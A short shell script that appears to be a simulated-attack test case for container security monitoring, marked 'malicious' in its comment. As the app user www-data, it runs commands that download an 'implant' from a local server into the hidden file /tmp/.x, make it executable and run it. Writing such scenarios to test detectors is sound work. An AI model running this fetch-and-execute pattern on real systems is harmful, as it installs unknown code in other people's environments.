#!/bin/sh
# malicious: an attacker opens a tty in the container as www-data (the app user) and fetches a tool
# container
. "$(dirname "$0")/../../lib.sh"
ctr_tty www-data <<'CMDS'
id
curl -s -o /tmp/.x http://127.0.0.1:8080/implant
chmod +x /tmp/.x; /tmp/.x
exit
CMDS
